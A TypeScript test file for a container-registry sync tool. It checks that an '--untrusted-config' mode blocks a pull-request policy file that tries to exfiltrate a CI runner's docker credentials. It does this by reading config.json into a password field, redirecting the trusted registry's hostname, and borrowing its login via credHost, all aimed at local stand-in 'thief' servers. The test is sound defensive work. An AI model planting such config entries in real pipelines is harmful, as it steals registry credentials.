// A pull request's regsync.yml tries to exfiltrate the runner's credentials three ways: a creds entry for its own
// host whose password is `{{file "<the runner's docker config.json>"}}`, a `hostname` that sends the trusted
// registry's traffic (and its --host login) to its host, and a `credHost` that borrows the trusted registry's docker
// login for its host. Checked with --untrusted-config, as the policy-check workflow does, none of its hosts receives
// a credential or the file, and the run names each refused key; the trusted registry still gets its own login.
// Checked as the operator's own config, the same file does send all three: the attack is real.
import assert from 'node:assert/strict';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { makeTempDir, removeTempDir } from '../harness/cleanup.js';
import { json, startLocalServer, type LocalServer } from '../unit/transport-local-server.js';
import { runRegkit, type CliRun } from './copy-setup.js';

const HOST_USER = 'check-bot';
const HOST_PASSWORD = 'Host-4e1b/ro+pw=never-print';
const DOCKER_USER = 'runner-login';
const DOCKER_PASSWORD = 'Docker-9a7c/login+pw=never-print';

const b64 = (s: string) => Buffer.from(s).toString('base64');

/** Answers every registry request with a Basic challenge (a request that brings credentials too): it wants them. */
async function greedyServer(): Promise<LocalServer> {
  return startLocalServer((_req: IncomingMessage, res: ServerResponse) =>
    json(res, 401, { errors: [{ code: 'UNAUTHORIZED', message: 'send credentials' }] }, { 'www-authenticate': 'Basic realm="give"' }),
  );
}

/** The trusted registry: Basic auth, and no such image once authorized (a check then reports it failed). */
async function trustedServer(): Promise<LocalServer> {
  return startLocalServer((req: IncomingMessage, res: ServerResponse) => {
    if (!req.headers.authorization) json(res, 401, { errors: [{ code: 'UNAUTHORIZED', message: 'log in' }] }, { 'www-authenticate': 'Basic realm="trusted"' });
    else json(res, 404, { errors: [{ code: 'MANIFEST_UNKNOWN', message: 'no such manifest' }] });
  });
}

function received(server: LocalServer): string {
  return server.seen.map((s) => `${s.method} ${s.url} ${JSON.stringify(s.headers)} ${s.body}`).join('\n');
}

describe('a policy under review cannot send credentials anywhere', { timeout: 120_000 }, () => {
  let work: string;
  let dockerDir: string;
  let dockerConfigText: string;
  let trusted: LocalServer;
  let fileThief: LocalServer;
  let redirectThief: LocalServer;
  let borrowThief: LocalServer;
  let policy: string;

  before(async () => {
    work = await makeTempDir('regkit-review-');
    [trusted, fileThief, redirectThief, borrowThief] = await Promise.all([trustedServer(), greedyServer(), greedyServer(), greedyServer()]);
    dockerDir = join(work, 'runner-docker');
    await mkdir(dockerDir);
    await writeFile(join(dockerDir, 'config.json'), JSON.stringify({ auths: { [trusted.host]: { auth: b64(`${DOCKER_USER}:${DOCKER_PASSWORD}`) } } }));
    dockerConfigText = await readFile(join(dockerDir, 'config.json'), 'utf8');
    policy = join(work, 'regsync.yml');
    const step = (host: string, n: number) => `  - source: ${host}/team/app:v1\n    target: ocidir://${join(work, `out${n}`)}:v1\n    type: image\n`;
    await writeFile(
      policy,
      [
        'version: 1',
        'creds:',
        `  - registry: ${fileThief.host}`,
        '    tls: disabled',
        '    user: pr-author',
        `    pass: '{{file "${join(dockerDir, 'config.json')}"}}'`,
        `  - registry: ${trusted.host}`,
        '    tls: disabled',
        `    hostname: ${redirectThief.host}`,
        `  - registry: ${borrowThief.host}`,
        '    tls: disabled',
        `    credHost: ${trusted.host}`,
        'sync:',
        step(fileThief.host, 1) + step(trusted.host, 2) + step(borrowThief.host, 3),
      ].join('\n'),
    );
  });
  after(async () => {
    for (const s of [trusted, fileThief, redirectThief, borrowThief]) await s?.close();
    await removeTempDir(work);
  });

  const check = (extra: string[]): Promise<CliRun> =>
    runRegkit(['sync', 'check', '-c', policy, ...extra, '--host', `reg=${trusted.host},tls=disabled,user=${HOST_USER},pass=${HOST_PASSWORD}`], dockerDir);

  const clear = () => {
    for (const s of [trusted, fileThief, redirectThief, borrowThief]) s.seen.length = 0;
  };

  test('with --untrusted-config: no thief receives a credential or the file, and the run says why', async () => {
    clear();
    const started = performance.now();
    const run = await check(['--untrusted-config']);
    const ms = performance.now() - started;
    const output = `${run.stdout}\n${run.stderr}`;
    for (const thief of [fileThief, redirectThief, borrowThief]) {
      const got = received(thief);
      assert.ok(!thief.seen.some((s) => s.headers.authorization !== undefined), `a thief received an Authorization header:\n${got}`);
      for (const secret of [
        dockerConfigText.trim(),
        b64(`pr-author:${dockerConfigText.trim()}`),
        HOST_PASSWORD,
        DOCKER_PASSWORD,
        b64(`${HOST_USER}:${HOST_PASSWORD}`),
        b64(`${DOCKER_USER}:${DOCKER_PASSWORD}`),
      ]) {
        assert.ok(!got.includes(secret), `a thief received ${secret}`);
      }
    }
    assert.equal(redirectThief.seen.length, 0, 'the trusted registry was reached at its own address');
    assert.ok(fileThief.seen.length > 0 && borrowThief.seen.length > 0, 'the thieves were asked, anonymously');
    assert.ok(
      trusted.seen.some((s) => s.headers.authorization === `Basic ${b64(`${HOST_USER}:${HOST_PASSWORD}`)}`),
      `the trusted registry did not get its --host login:\n${received(trusted)}`,
    );
    for (const key of ['creds[0].user', 'creds[0].pass', 'creds[1].hostname', 'creds[2].credHost']) {
      assert.match(
        output,
        new RegExp(`regsync\\.yml:\\d+:\\d+: ${key.replace(/[[\]]/g, '\\$&')} refused: the config is under review \\(--untrusted-config\\)`),
        output,
      );
    }
    for (const secret of [HOST_PASSWORD, DOCKER_PASSWORD, b64(`${HOST_USER}:${HOST_PASSWORD}`)]) assert.ok(!output.includes(secret), output);
    assert.equal(run.code, 1, output);
    console.log(`untrusted check: ${ms.toFixed(0)} ms`);
  });

  test('as the operator own config the same file does send all three (the attack --untrusted-config stops)', async () => {
    clear();
    const run = await check([]);
    assert.ok(
      fileThief.seen.some((s) => s.headers.authorization === `Basic ${b64(`pr-author:${dockerConfigText.trim()}`)}`),
      `${received(fileThief)}\n${run.stderr}`,
    );
    assert.ok(
      redirectThief.seen.some((s) => s.headers.authorization === `Basic ${b64(`${HOST_USER}:${HOST_PASSWORD}`)}`),
      received(redirectThief),
    );
    assert.ok(
      borrowThief.seen.some((s) => s.headers.authorization === `Basic ${b64(`${DOCKER_USER}:${DOCKER_PASSWORD}`)}`),
      received(borrowThief),
    );
  });
});
